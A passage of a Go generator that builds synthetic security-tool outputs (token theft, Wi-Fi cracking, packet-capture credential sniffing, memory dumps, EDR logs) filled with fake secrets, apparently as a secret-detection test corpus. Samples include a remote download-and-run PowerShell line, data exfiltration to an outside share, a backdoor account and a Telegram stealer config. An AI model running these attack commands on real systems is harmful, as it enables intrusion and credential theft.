  "accessToken": "«a»",
  "refreshToken": "«b»",
  "idToken": "",
  "expiresIn": 4911
}
`, V{"p": g.stHuman(), "_tid": tid, "a": g.stAADJWT("https://graph.microsoft.com", tid, "l.haddad@contoso.com", "1950a258-227b-4e31-a9cf-717495945fc2", "AuditLog.Read.All Directory.AccessAsUser.All User.Read"), "b": g.stAzRT()},
		"1950a258-227b-4e31-a9cf-717495945fc2", "Tokens were written to .roadtools_auth")

	tid2 := g.uuid()
	g.add("sec/aadinternals-access-token", `
PS C:\> Import-Module AADInternals
PS C:\> $at = Get-AADIntAccessTokenForMSGraph -Credentials (Get-Credential) -SaveToCache
Tenant                               User                      Resource                    Client
------                               ----                      --------                    ------
«_tid» d.nowak@contoso.com       https://graph.microsoft.com 1b730954-1685-4b74-9bfd-dac224a7b894

PS C:\> $at
«a»
PS C:\> Read-AADIntAccesstoken -AccessToken $at | Select-Object upn, scp, exp
`, V{"_tid": tid2, "a": g.stAADJWT("https://graph.microsoft.com", tid2, "d.nowak@contoso.com", "1b730954-1685-4b74-9bfd-dac224a7b894", "Directory.AccessAsUser.All")},
		"Get-AADIntAccessTokenForMSGraph -Credentials (Get-Credential) -SaveToCache", "1b730954-1685-4b74-9bfd-dac224a7b894")

	tid3 := g.uuid()
	g.add("sec/tokentactics-refresh-to-graph", `
PS C:\Tools\TokenTactics> RefreshTo-MSGraphToken -refreshToken "«a»" -domain fabrikam.com -Device iPhone
✓  Successfully obtained token for https://graph.microsoft.com

token_type     : Bearer
scope          : https://graph.microsoft.com/.default
expires_in     : 5003
ext_expires_in : 5003
access_token   : «b»
refresh_token  : «c»
foci           : 1
id_token       : 
`, V{"a": g.stAzRT(), "b": g.stAADJWT("https://graph.microsoft.com", tid3, "m.varga@fabrikam.com", "d3590ed6-52b3-4102-aeff-aad2292ab01c", "Mail.Read Files.ReadWrite.All User.Read"), "c": g.stAzRT()},
		"✓  Successfully obtained token for https://graph.microsoft.com", "scope          : https://graph.microsoft.com/.default")

	prtIat := 1749700000 + g.r.IntN(100000)
	prtCookie := g.jwt("HS256", fmt.Sprintf(`{"refresh_token":"%s","is_primary":"true","iat":"%d","request_nonce":"%s"}`, g.stAzRT(), prtIat, g.b64u(86)))
	g.add("sec/roadtoken-prt-cookie", `
C:\Users\l.haddad\AppData\Local\Temp> ROADToken.exe «_nonce»
Using nonce «_nonce» supplied on command line
Data sent
{"response":[{"name":"x-ms-RefreshTokenCredential","data":"«a»","p3pHeader":"CP=\"CAO DSP COR ADMa DEV CONo TELo CUR PSA PSD TAI IVDo OUR SAMi BUS DEM NAV STA UNI COM INT PHY ONL FIN PUR LOCi CNT\"","flags":8256}]}
`, V{"_nonce": g.b64u(200), "a": prtCookie}, "\"name\":\"x-ms-RefreshTokenCredential\"", "Using nonce")

	g.add("sec/azure-msal-token-cache-found", `
dev@build-01:~$ jq '{a:.AccessToken|to_entries[0].value|{home_account_id,target,secret}, r:.RefreshToken|to_entries[0].value|{client_id,secret}}' ~/.azure/msal_token_cache.json
{
  "a": {
    "home_account_id": "«_h»",
    "target": "https://management.core.windows.net//user_impersonation https://management.core.windows.net//.default",
    "secret": "«a»"
  },
  "r": {
    "client_id": "04b07795-8ddb-461a-bbee-02f9e1bf7b46",
    "secret": "«b»"
  }
}
`, func() V {
		t := g.uuid()
		return V{"_h": g.uuid() + "." + t, "a": g.stAADJWT("https://management.core.windows.net/", t, "svc-build@contoso.com", "04b07795-8ddb-461a-bbee-02f9e1bf7b46", "user_impersonation"), "b": g.stAzRT()}
	}(), "\"client_id\": \"04b07795-8ddb-461a-bbee-02f9e1bf7b46\"", "~/.azure/msal_token_cache.json")

	g.add("sec/ssrf-gcp-metadata-token", `
$ curl -s 'https://pdf.target.example/render?src=http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token&hdr=Metadata-Flavor:Google'
{"access_token":"«a»","expires_in":3574,"token_type":"Bearer"}
`, V{"a": "ya29.c.c0ASRK0G" + g.b64u(240)}, "Metadata-Flavor:Google", "\"token_type\":\"Bearer\"")

	g.add("sec/az-login-sp-keyvault-secret", `
$ az login --service-principal -u «_app» -p '«a»' --tenant «_t» --allow-no-subscriptions -o none
$ az keyvault secret show --vault-name kv-contoso-prod --name sql-admin-password --query '{id:id, value:value, updated:attributes.updated}'
{
  "id": "https://kv-contoso-prod.vault.azure.net/secrets/sql-admin-password/«_v»",
  "updated": "2025-01-09T10:22:41+00:00",
  "value": "«b»"
}
`, V{"_app": g.uuid(), "a": g.azSecret(), "_t": g.uuid(), "_v": g.hex(32), "b": g.pwStrong()}, "--name sql-admin-password", "\"updated\": \"2025-01-09T10:22:41+00:00\"")
}

func (g *G) stWifi() {
	g.add("sec/aircrack-key-found", `
$ aircrack-ng -w /usr/share/wordlists/rockyou.txt -b 3C:37:86:A1:0F:22 warehouse-01.cap

                               Aircrack-ng 1.7 

      [00:03:41] 1180672/14344392 keys tested (5341.18 k/s) 

      Time left: 41 minutes, 4 seconds                           8.23%

                           KEY FOUND! [ «a» ]


      Master Key     : «b»

      Transient Key  : «=t»

      EAPOL HMAC     : «=e»
`, V{"a": strings.ToLower(g.pick(pwWords...)) + g.s(alDigit, 4), "b": g.stSpacedHex(32, 16, "                       "), "=t": g.stSpacedHex(64, 16, "                       "), "=e": g.stSpacedHex(16, 16, "")},
		"Aircrack-ng 1.7", "-b 3C:37:86:A1:0F:22 warehouse-01.cap")

	l1, m1 := g.stWPA02("NW-Corp")
	l2, m2 := g.stWPA01("NW-Guest")
	g.add("sec/hcxpcapngtool-22000-file", `
$ hcxpcapngtool -o site-survey.hc22000 site-survey.pcapng
hcxpcapngtool 6.3.4 reading from site-survey.pcapng...

summary capture file
--------------------
file name................................: site-survey.pcapng
version (pcapng).........................: 1.0
operating system.........................: Linux 6.6.15-amd64
application..............................: hcxdumptool 6.3.4
duration of the dump tool (minutes)......: 42
packets inside...........................: 81244
ESSID (total unique).....................: 19
EAPOL M1 messages (total)................: 311
EAPOL pairs written to 22000 hash file...: 1 (RC checked)
PMKID written to 22000 hash file.........: 1

$ cat site-survey.hc22000
`+strings.Replace(l1, m1, "«a»", 1)+`
`+strings.Replace(l2, m2, "«b»", 1)+`
`, V{"a": m1, "b": m2}, "EAPOL pairs written to 22000 hash file...: 1 (RC checked)", "application..............................: hcxdumptool 6.3.4")

	ap, sta := g.stMAC12(), g.stMAC12()
	g.add("sec/hashcat-22000-show", `
$ hashcat -m 22000 site-survey.hc22000 --show
«a»:`+ap+`:`+sta+`:NW-Corp:«b»
`, V{"a": g.hex(32), "b": "Northwind" + g.s(alDigit, 4) + g.pick("!", "#", "")}, "hashcat -m 22000 site-survey.hc22000 --show", ":NW-Corp:")

	g.add("sec/wifite-cracked-handshake", `
 [+] (5/9) Starting attacks against 3C:37:86:A1:0F:22 (Warehouse-IoT)
 [+] Warehouse-IoT (56db) WPA Handshake capture: Captured handshake
 [+] saving copy of handshake to hs/handshake_WarehouseIoT_3C-37-86-A1-0F-22_2025-06-12T14-02-11.cap saved
 [+] analysis of captured handshake file:
 [+]   tshark: .cap file contains a valid handshake for 3c:37:86:a1:0f:22
 [+]   aircrack: .cap file contains a valid handshake for 3C:37:86:A1:0F:22

 [+] Cracking WPA Handshake: Running aircrack-ng with wordlist-probable.txt wordlist
 [+] Cracking WPA Handshake: 100.00% ETA: 0s @ 2961.2kps (current key: «a»)
 [+] Cracked WPA Handshake PSK: «a»

 [+]   Access Point Name: Warehouse-IoT
 [+]  Access Point BSSID: 3C:37:86:A1:0F:22
 [+]          Encryption: WPA
 [+]      Handshake File: hs/handshake_WarehouseIoT_3C-37-86-A1-0F-22_2025-06-12T14-02-11.cap
 [+]      PSK (password): «a»
 [+] saved crack result to cracked.json (1 total)
`, V{"a": strings.ToLower(g.pick(pwWords...)) + g.s(alDigit, 3)}, "Access Point BSSID: 3C:37:86:A1:0F:22", "[+] saved crack result to cracked.json (1 total)")

	g.add("sec/reaver-wps-pin-psk", `
$ reaver -i wlan0mon -b C8:3A:35:11:4E:90 -vv -K 1
Reaver v1.6.6 WiFi Protected Setup Attack Tool
Copyright (c) 2011, Tactical Network Solutions, Craig Heffner <cheffner@tacnetsol.com>

[+] Switching wlan0mon to channel 6
[+] Waiting for beacon from C8:3A:35:11:4E:90
[+] Received beacon from C8:3A:35:11:4E:90
[+] Vendor: RalinkTe
executing pixiewps -e «=pke» -r «=pkr» -s «=eh1» -z «=eh2» -a «=auth» -n «=enonce»

 Pixiewps 1.4

 [*] Mode:     3 (RT/MT/CL)
 [*] Seed N1:  -
 [*] Seed ES1: -
 [*] Seed ES2: -
 [+] WPS pin:  «a»

 [*] Time taken: 0 s 29 ms

[+] Pixiewps: success: setting pin to «a»
[+] WPS PIN: '«a»'
[+] WPA PSK: '«b»'
[+] AP SSID: 'Tenda_114E90'
`, V{"=pke": g.hex(384), "=pkr": g.hex(384), "=eh1": g.hex(64), "=eh2": g.hex(64), "=auth": g.hex(64), "=enonce": g.hex(32), "a": g.s(alDigit, 8), "b": g.s(alAlnum, 12)},
		"[+] AP SSID: 'Tenda_114E90'", "Reaver v1.6.6 WiFi Protected Setup Attack Tool")

	g.add("sec/netsh-wlan-show-profile-key-clear", `
C:\Users\kiosk.lobby> netsh wlan show profile name="NW-Corp" key=clear

Profile NW-Corp on interface Wi-Fi:
=======================================================================

Applied: All User Profile

Profile information
-------------------
    Version                : 1
    Type                   : Wireless LAN
    Name                   : NW-Corp
    Control options        :
        Connection mode    : Connect automatically
        Network broadcast  : Connect only if this network is broadcasting
        AutoSwitch         : Do not switch to other networks
        MAC Randomization  : Disabled

Security settings
-----------------
    Authentication         : WPA2-Personal
    Cipher                 : CCMP
    Authentication         : WPA2-Personal
    Cipher                 : GCMP
    Security key           : Present
    Key Content            : «a»
`, V{"a": "Northwind" + g.s(alDigit, 4) + g.pick("!", "#", "")}, "Authentication         : WPA2-Personal", "Security key           : Present", "Profile NW-Corp on interface Wi-Fi:")

	g.add("sec/nmconnection-8021x-found", `
root@lt-ubuntu-22:~# cat /etc/NetworkManager/system-connections/MEGACORP-CORP.nmconnection
[connection]
id=MEGACORP-CORP
uuid=«_u»
type=wifi
interface-name=wlp0s20f3

[wifi]
mode=infrastructure
ssid=MEGACORP-CORP

[wifi-security]
key-mgmt=wpa-eap

[802-1x]
eap=peap;
identity=e.lindqvist@megacorp.local
password=«a»
phase2-auth=mschapv2
ca-cert=/etc/ssl/certs/megacorp-root-ca.pem

[ipv4]
method=auto
`, V{"_u": g.uuid(), "a": g.stHuman()}, "identity=e.lindqvist@megacorp.local", "phase2-auth=mschapv2", "key-mgmt=wpa-eap")

	g.add("sec/wpa-supplicant-raw-psk-firmware", `
$ cat _fw.bin.extracted/squashfs-root/etc/wpa_supplicant.conf
ctrl_interface=/var/run/wpa_supplicant
update_config=1
country=DE

network={
	ssid="Factory-Line2"
	psk=«a»
	key_mgmt=WPA-PSK
	priority=5
}

network={
	ssid="Factory-Setup"
	psk="«b»"
	key_mgmt=WPA-PSK
}
`, V{"a": g.hex(64), "b": g.pwURL()}, "ctrl_interface=/var/run/wpa_supplicant", "ssid=\"Factory-Line2\"")

	g.add("sec/zbarimg-wifi-qr-reception", `
Finding PHYS-02: Guest Wi-Fi QR code on reception desk joins the corporate VLAN.

$ zbarimg --quiet reception_desk_photo.jpg
QR-Code:WIFI:T:WPA;S:NW-Guest;P:«a»;H:false;;
$ nmcli dev wifi connect NW-Guest password '«a»' && ip -4 addr show wlan0 | grep inet
    inet 10.20.30.201/24 brd 10.20.30.255 scope global dynamic noprefixroute wlan0
`, V{"a": g.pwURL()}, "Finding PHYS-02", "inet 10.20.30.201/24 brd 10.20.30.255")
}

func (g *G) stWire() {
	g.add("sec/tshark-http-authorization-basic", `
$ tshark -r branch-office.pcapng -Y 'http.authorization' -T fields -e frame.time -e ip.src -e http.host -e http.request.uri -e http.authorization
Jun 12, 2025 08:14:02.118241000 UTC	10.40.1.23	10.40.1.2	/cgi-bin/luci	Basic «a»
Jun 12, 2025 08:31:44.902113000 UTC	10.40.1.57	printer-3f.branch.local	/hp/device/SignIn	Basic «b»
`, V{"a": b64s("root:" + g.pwURL()), "b": b64s("admin:" + g.stHuman())}, "-e http.authorization", "/hp/device/SignIn")

	g.add("sec/tshark-http-authbasic-decoded", `
$ tshark -r dmz-tap.pcap -Y 'http.authbasic' -T fields -e ip.dst -e http.host -e http.authbasic | sort -u
172.18.0.14	jenkins.dmz.local:8080	deploy:«a»
172.18.0.22	nexus.dmz.local	admin:«b»
`, V{"a": g.pwURL(), "b": g.stHuman()}, "-e http.authbasic", "jenkins.dmz.local:8080")

	g.add("sec/tshark-ftp-user-pass", `
$ tshark -r ot-segment.pcapng -Y 'ftp.request.command == "USER" || ftp.request.command == "PASS"' -T fields -e ip.src -e ip.dst -e ftp.request.command -e ftp.request.arg
10.60.2.15	10.60.1.5	USER	plc_backup
10.60.2.15	10.60.1.5	PASS	«a»
10.60.2.31	10.60.1.5	USER	anonymous
10.60.2.31	10.60.1.5	PASS	anonymous@
`, V{"a": g.pwURL()}, "USER	plc_backup", "PASS	anonymous@")

	g.add("sec/tshark-smtp-auth-plain-stream", `
$ tshark -r mailrelay.pcap -q -z follow,tcp,ascii,4 | sed -n '8,30p'
220 relay.branch.local ESMTP Postfix (Debian/GNU)
EHLO scanner-2f
250-relay.branch.local
250-PIPELINING
250-SIZE 10240000
250-AUTH PLAIN LOGIN
250-8BITMIME
250 SMTPUTF8
AUTH PLAIN «a»
235 2.7.0 Authentication successful
MAIL FROM:<scanner@branch.local>
250 2.1.0 Ok
`, V{"a": b64s("\x00scanner@branch.local\x00" + g.pwURL())}, "250-AUTH PLAIN LOGIN", "235 2.7.0 Authentication successful")

	g.add("sec/tshark-imap-login", `
$ tshark -r user-vlan.pcap -Y 'imap.request.command == "LOGIN"' -T fields -e ip.src -e imap.request
10.20.40.77	a001 LOGIN "j.achebe@northwind.example" "«a»"
`, V{"a": g.stHuman()}, "imap.request.command == \"LOGIN\"", "a001 LOGIN \"j.achebe@northwind.example\"")

	g.add("sec/tshark-snmp-community", `
$ tshark -r core-span.pcapng -Y snmp -T fields -e ip.src -e ip.dst -e snmp.community -e snmp.name | sort -u | head
10.0.5.10	10.0.0.1	public	1.3.6.1.2.1.1.5.0
10.0.5.10	10.0.0.2	«a»	1.3.6.1.4.1.9.9.96.1.1.1.1.2.333
10.0.5.10	10.0.0.2	«a»	1.3.6.1.4.1.9.9.96.1.1.1.1.3.333
`, V{"a": strings.ToLower(g.pick(pwWords...)) + "RW" + g.s(alDigit, 3)}, "1.3.6.1.2.1.1.5.0", "-e snmp.community")

	g.add("sec/tshark-ldap-simple-bind", `
$ tshark -r app-to-dc.pcap -Y 'ldap.protocolOp == bindRequest' -T fields -e ip.src -e ldap.name -e ldap.simple
10.9.0.40	CN=svc_jira,OU=Service Accounts,DC=megacorp,DC=local	«a»
10.9.0.41	CN=svc_confluence,OU=Service Accounts,DC=megacorp,DC=local	«b»
`, V{"a": g.pwStrong(), "b": g.pwStrong()}, "CN=svc_jira,OU=Service Accounts,DC=megacorp,DC=local", "ldap.protocolOp == bindRequest")

	g.add("sec/krb5pa-hashes-from-pcap", `
$ python3 krb2john.py dc-traffic.pcap
t.ito:$krb5pa$18$t.ito$NORTHWIND.LOCAL$NORTHWIND.LOCALt.ito$«a»
r.osei:$krb5pa$18$r.osei$NORTHWIND.LOCAL$NORTHWIND.LOCALr.osei$«=b»
`, V{"a": g.hex(104), "=b": g.hex(104)}, "python3 krb2john.py dc-traffic.pcap", "$krb5pa$18$t.ito$NORTHWIND.LOCAL$")

	pw := g.s(alLowNum, 10)
	g.add("sec/telnet-follow-stream-switch", `
$ tshark -r mgmt-vlan.pcap -q -z follow,tcp,ascii,0

===================================================================
Follow: tcp,ascii
Filter: tcp.stream eq 0
Node 0: 10.0.9.14:51522
Node 1: 10.0.0.3:23

User Access Verification

Username: 
	netops
Password: 
	«a»

SW-CORE-03>
	en
Password: 
	«b»
SW-CORE-03#
	show run | i username
username netops privilege 15 secret 9 «c»
===================================================================
`, V{"a": pw, "b": g.pwURL(), "c": "$9$" + g.s(alAlnum+"./", 14) + "$" + g.s(alAlnum+"./", 43)}, "Node 1: 10.0.0.3:23", "User Access Verification", "SW-CORE-03#")

	g.add("sec/tshark-urlencoded-form-login", `
$ tshark -r guest-portal.pcap -Y 'http.request.method == "POST" && urlencoded-form' -T fields -e http.host -e urlencoded-form.key -e urlencoded-form.value
portal.hotel-wifi.example	room,lastname,email	412,Nguyen,tnguyen@mail.example
cms.target.example	log,pwd,wp-submit,redirect_to	editor,«a»,Log In,https://cms.target.example/wp-admin/
`, V{"a": g.stHuman()}, "portal.hotel-wifi.example	room,lastname,email", "https://cms.target.example/wp-admin/")
}

func (g *G) stDetect() {
	g.add("sec/splunk-net-user-add-results", `
index=wineventlog sourcetype="WinEventLog:Security" EventCode=4688 (CommandLine="*net* user*/add*" OR CommandLine="*net* localgroup*admin*")
| table _time host Account_Name CommandLine

_time                    host       Account_Name  CommandLine
2025-06-09 02:14:51.000  FIN-WS07   SYSTEM        net  user svc_update «a» /add /y
2025-06-09 02:14:52.000  FIN-WS07   SYSTEM        net  localgroup administrators svc_update /add
2025-06-09 02:16:03.000  FIN-WS10   SYSTEM        net  user svc_update «a» /add /y
`, V{"a": g.stPunct()[:12]}, "net  localgroup administrators svc_update /add", "index=wineventlog sourcetype=\"WinEventLog:Security\" EventCode=4688")

	g.add("sec/sentinel-kql-psexec-results", `
DeviceProcessEvents
| where Timestamp > ago(7d)
| where FileName in~ ("PsExec.exe", "PsExec64.exe") or ProcessCommandLine has "-accepteula"
| project Timestamp, DeviceName, AccountName, ProcessCommandLine
| order by Timestamp asc

Timestamp [UTC]            DeviceName               AccountName   ProcessCommandLine
6/10/2025, 1:02:44.118 AM  jump01.megacorp.local    adm.jlee      PsExec64.exe \\db-prod-01 -u MEGACORP\svc_sqlagent -p «a» -accepteula -s cmd /c "whoami /all"
6/10/2025, 1:05:10.902 AM  jump01.megacorp.local    adm.jlee      PsExec64.exe \\db-prod-02 -u MEGACORP\svc_sqlagent -p «a» -accepteula -s -d C:\Windows\Temp\svc.exe
`, V{"a": g.pwStrong()}, "| where FileName in~ (\"PsExec.exe\", \"PsExec64.exe\")", "DeviceName               AccountName")

	g.add("sec/elastic-hit-process-command-line", `
{
  "_index": ".ds-logs-endpoint.events.process-default-2025.06.09-000012",
  "_id": "«_id»",
  "_source": {
    "@timestamp": "2025-06-10T22:41:09.412Z",
    "event": { "category": ["process"], "type": ["start"], "action": "exec" },
    "host": { "name": "web-prd-03", "os": { "family": "debian" } },
    "user": { "name": "www-data" },
    "process": {
      "pid": 30112,
      "executable": "/usr/bin/curl",
      "command_line": "curl -s -u admin:«a» -X POST http://127.0.0.1:15672/api/users/backdoor -d {\"password\":\"«b»\",\"tags\":\"administrator\"}",
      "parent": { "name": "sh", "pid": 30109 }
    }
  }
}
`, V{"_id": g.b64u(20), "a": g.pwURL(), "b": g.pwURL()}, "\"executable\": \"/usr/bin/curl\"", ".ds-logs-endpoint.events.process-default-2025.06.09-000012")

	g.add("sec/sysmon-event1-schtasks-rp", `
<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event">
  <System>
    <Provider Name="Microsoft-Windows-Sysmon" Guid="{5770385f-c22a-43e0-bf4c-06f5698ffbd9}" />
    <EventID>1</EventID>
    <Computer>APP01.fabrikam.local</Computer>
  </System>
  <EventData>
    <Data Name="RuleName">technique_id=T1053.005,technique_name=Scheduled Task</Data>
    <Data Name="UtcTime">2025-06-10 23:02:17.441</Data>
    <Data Name="ProcessGuid">{«_pg»}</Data>
    <Data Name="Image">C:\Windows\System32\schtasks.exe</Data>
    <Data Name="CommandLine">schtasks /create /tn "OneDrive Standalone Update Task" /tr "C:\ProgramData\ms\upd.exe" /sc minute /mo 30 /ru FABRIKAM\svc_deploy /rp «a» /f</Data>
    <Data Name="User">FABRIKAM\svc_deploy</Data>
    <Data Name="Hashes">SHA256=«_h»</Data>
    <Data Name="ParentImage">C:\Windows\System32\cmd.exe</Data>
  </EventData>
</Event>
`, V{"_pg": strings.ToUpper(g.uuid()), "a": g.pwStrong(), "_h": strings.ToUpper(g.hex(64))}, "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}", "technique_id=T1053.005,technique_name=Scheduled Task")

	g.add("sec/event-4688-wevtutil-net-use", `
C:\> wevtutil qe Security /q:"*[System[(EventID=4688)]]" /c:3 /rd:true /f:text | findstr /i "Process Command Line"
	Process Command Line:	"C:\Windows\system32\net.exe" use \\fs01\c$ /user:CONTOSO\helpdesk.t2 «a»
	Process Command Line:	C:\Windows\system32\net1  use \\fs01\c$ /user:CONTOSO\helpdesk.t2 «a»
	Process Command Line:	"C:\Windows\system32\cmd.exe" /c whoami /priv
`, V{"a": g.stHuman()}, "\"C:\\Windows\\system32\\cmd.exe\" /c whoami /priv", "/user:CONTOSO\\helpdesk.t2")

	g.add("sec/powershell-4104-scriptblock", `
TimeCreated  : 6/10/2025 11:20:41 PM
Id           : 4104
LevelDisplayName : Warning
Message      : Creating Scriptblock text (1 of 1):
               $u = 'MEGACORP\svc_sccm_na'
               $p = ConvertTo-SecureString '«a»' -AsPlainText -Force
               $c = [pscredential]::new($u, $p)
               Invoke-WebRequest -Uri https://sccm01.megacorp.local/ccm_system_windowsauth/request -Credential $c -UseBasicParsing

               ScriptBlock ID: «_id»
               Path: C:\Windows\Temp\ps_7f1.ps1
`, V{"a": g.pwStrong(), "_id": g.uuid()}, "Creating Scriptblock text (1 of 1):", "Path: C:\\Windows\\Temp\\ps_7f1.ps1")

	pw := g.pwURL()
	pw2 := g.pick(pwWords...) + " " + g.pick(pwWords...) + " " + g.s(alDigit, 3)
	g.add("sec/auditd-execve-hex-args", `
# ausearch -i is not used here: raw records
type=EXECVE msg=audit(1749597111.402:88213): argc=4 a0="mysql" a1="-uroot" a2="-p«a»" a3="shop_prod"
type=EXECVE msg=audit(1749597302.118:88390): argc=5 a0="sshpass" a1="-p" a2=«b» a3="ssh" a4="backup@10.9.0.20"
type=PROCTITLE msg=audit(1749597302.118:88390): proctitle=«c»
`, V{"a": pw, "b": strings.ToUpper(fmt.Sprintf("%x", pw2)), "c": strings.ToUpper(fmt.Sprintf("%x", "sshpass\x00-p\x00"+pw2+"\x00ssh\x00backup@10.9.0.20"))},
		"a4=\"backup@10.9.0.20\"", "# ausearch -i is not used here: raw records")

	g.add("sec/edr-process-tree-text", `
Process tree — Detection ID ldt:8f1e2a40c9…:3307188 (Credential Access / OS Credential Dumping)
└─ services.exe (PID 712)
   └─ svchost.exe -k netsvcs -p (PID 1188)
      └─ cmd.exe /Q /c cd \ 1> \\127.0.0.1\ADMIN$\__1749598001.1209 2>&1 (PID 9012)
         └─ reg.exe save HKLM\SECURITY C:\Windows\Temp\sec.hiv (PID 9040)
      └─ cmd.exe /Q /c net user localsupport «a» (PID 9102)
      └─ powershell.exe -nop -w hidden -c "iex(iwr http://10.8.0.14/a.ps1 -UseBasicParsing -Headers @{Authorization='Bearer «b»'})" (PID 9144)
`, V{"a": g.stPunct()[:14], "b": g.an(32)}, "\\\\127.0.0.1\\ADMIN$\\__1749598001.1209", "reg.exe save HKLM\\SECURITY C:\\Windows\\Temp\\sec.hiv")

	g.add("sec/volatility-hashdump", `
$ vol -f FIN-WS07.mem windows.hashdump
Volatility 3 Framework 2.7.0
Progress:  100.00		PDB scanning finished                        
User	rid	lmhash	nthash

Administrator	500	aad3b435b51404eeaad3b435b51404ee	«a»
Guest	501	aad3b435b51404eeaad3b435b51404ee	31d6cfe0d16ae931b73c59d7e0c089c0
DefaultAccount	503	aad3b435b51404eeaad3b435b51404ee	31d6cfe0d16ae931b73c59d7e0c089c0
WDAGUtilityAccount	504	aad3b435b51404eeaad3b435b51404ee	«=w»
localsupport	1001	aad3b435b51404eeaad3b435b51404ee	«b»
`, V{"a": g.stNT(), "=w": g.stNT(), "b": g.stNT()}, "Volatility 3 Framework 2.7.0", "Guest	501	aad3b435b51404eeaad3b435b51404ee	31d6cfe0d16ae931b73c59d7e0c089c0")

	pw3 := g.stHuman()
	g.add("sec/volatility-lsadump", `
$ vol -f KIOSK-LOBBY-2.vmem windows.lsadump
Volatility 3 Framework 2.7.0
Progress:  100.00		PDB scanning finished                        
Key	Secret	Hex

DefaultPassword	«a»	«=h»
DPAPI_SYSTEM	«=d»	«=dh»
NL$KM	«=n»	«=nh»
`, V{"a": pw3, "=h": stSpacedHexOf(string(g.stUTF16(pw3))), "=d": g.hex(40), "=dh": g.stSpacedHex(44, 44, ""), "=n": g.hex(64), "=nh": g.stSpacedHex(64, 64, "")},
		"Key	Secret	Hex", "Progress:  100.00		PDB scanning finished")

	g.add("sec/volatility-cmdline", `
$ vol -f APP01.raw windows.cmdline | grep -iE 'pass|-p |/p:'
5120	7z.exe	"C:\Program Files\7-Zip\7z.exe" a -tzip -p«a» -mem=AES256 C:\Windows\Temp\out.zip C:\Shares\Finance\*
6604	sqlcmd.exe	sqlcmd -S db-prod-01 -U sa -P «b» -Q "BACKUP DATABASE [ERP] TO DISK='\\10.8.0.14\s\erp.bak'"
`, V{"a": g.pwURL(), "b": g.pwStrong()}, "-mem=AES256 C:\\Windows\\Temp\\out.zip", "BACKUP DATABASE [ERP]")

	g.add("sec/strings-memory-dump-grep", `
$ strings -a -el lsass_2025-06-10.dmp | grep -iE -B1 -A1 'password|pwd=' | head -12
ConnectionString
Server=db-prod-01;Database=ERP;User Id=erp_app;Password=«a»;
--
autologon
DefaultPassword
«b»
--
https://login.microsoftonline.com/common/oauth2/token
grant_type=password&username=svc-sync@contoso.com&password=«c»&client_id=1b730954-1685-4b74-9bfd-dac224a7b894
`, V{"a": g.pwStrong(), "b": g.stHuman(), "c": g.pwURL()}, "strings -a -el lsass_2025-06-10.dmp", "https://login.microsoftonline.com/common/oauth2/token")

	g.add("sec/osquery-process-cmdline", `
osquery> SELECT pid, name, cmdline FROM processes WHERE cmdline LIKE '%pass%' OR cmdline LIKE '% -p %';
+-------+------------+-----------------------------------------------------------------------------------+
| pid   | name       | cmdline                                                                           |
+-------+------------+-----------------------------------------------------------------------------------+
| 2281  | redis-cli  | redis-cli -h 10.9.0.33 -a «a» --no-auth-warning monitor         |
| 31004 | java       | java -Dspring.datasource.password=«b» -jar /opt/orders/app.jar  |
+-------+------------+-----------------------------------------------------------------------------------+
`, V{"a": g.an(32), "b": g.pwStrong()}, "osquery> SELECT pid, name, cmdline FROM processes", "-jar /opt/orders/app.jar")
}

// stSpacedHexOf writes the bytes of s as lower hex pairs separated by spaces.
func stSpacedHexOf(s string) string {
	p := make([]string, len(s))
	for i := 0; i < len(s); i++ {
		p[i] = fmt.Sprintf("%02x", s[i])
	}
	return strings.Join(p, " ")
}

func (g *G) stIR() {
	g.add("sec/ir-timeline-leaked-github-token", stBT(`
## IR-2025-031 — timeline (UTC)

| Time | Source | Event |
|---|---|---|
| 2025-06-08 21:14 | GitHub audit log | ‵platform-bot‵ PAT used from 185.220.101.44 (Tor exit) to clone ‵acme-corp/payments-api‵ |
| 2025-06-08 21:16 | GitHub audit log | 41 private repos cloned in 6 minutes |
| 2025-06-09 07:02 | Secret scanning alert #88 | token found in public gist by user ‵qa-contractor-7‵ |
| 2025-06-09 07:20 | IR | token revoked; gist reported |

Leaked value (for the hunt queries only — already revoked): ‵«a»‵

Hunt: ‵actor:platform-bot action:git.clone‵ from 2025-06-01; commit ‵«_c»‵ introduced the gist link.
`), V{"a": g.ghp(), "_c": g.gitSHA()}, "actor:platform-bot action:git.clone", "185.220.101.44 (Tor exit)", "Secret scanning alert #88")

	g.add("sec/ir-slack-paste-stripe-key", `
[09:41] Mara (SecOps): found this in the public Docker Hub image acme/checkout-worker:1.8.2, layer 7, /app/.env:
[09:41] Mara (SecOps): STRIPE_SECRET_KEY=«a»
[09:42] Mara (SecOps): rolling it now in the Stripe dashboard, can someone check the Stripe logs for requests from unknown IPs since May 30?
[09:44] Tom (Payments): on it. image pulled 312 times since the push per Docker Hub
`, V{"a": g.skLive()}, "acme/checkout-worker:1.8.2", "image pulled 312 times since the push per Docker Hub")

	g.add("sec/ir-stealer-config-telegram", `
$ python3 extract_cfg.py samples/«_h».bin
[+] found .NET resource "cfg" (AES-256-CBC, key derived from mutex name)
[+] decrypted config:
{
  "build": "june_inv",
  "mutex": "Global\\«_m»",
  "exfil": {
    "type": "telegram",
    "bot_token": "«a»",
    "chat_id": "-100«_chat»"
  },
  "grab": ["browsers", "discord", "telegram", "wallets", "filezilla"],
  "anti_vm": true
}
`, V{"_h": g.hex(64), "_m": g.uuid(), "a": g.telegram(), "_chat": g.digits(10)}, "[+] found .NET resource \"cfg\"", "\"grab\": [\"browsers\", \"discord\", \"telegram\", \"wallets\", \"filezilla\"]")

	wid, wtok := g.digits(19), g.b64u(68)
	g.add("sec/ir-strings-discord-webhook", `
$ strings -n 12 invoice_viewer.exe | grep -iE 'discord|webhook|api\.ipify'
https://api.ipify.org/?format=json
https://discord.com/api/webhooks/`+wid+`/«a»
Content-Disposition: form-data; name="file"; filename="passwords.txt"
$ sha256sum invoice_viewer.exe
«_h»  invoice_viewer.exe
`, V{"a": wtok, "_h": g.hex(64)}, "https://api.ipify.org/?format=json", "filename=\"passwords.txt\"")

	g.add("sec/firmware-binwalk-shadow", `
$ binwalk -e CAM-X200_v2.3.1.bin

DECIMAL       HEXADECIMAL     DESCRIPTION
--------------------------------------------------------------------------------
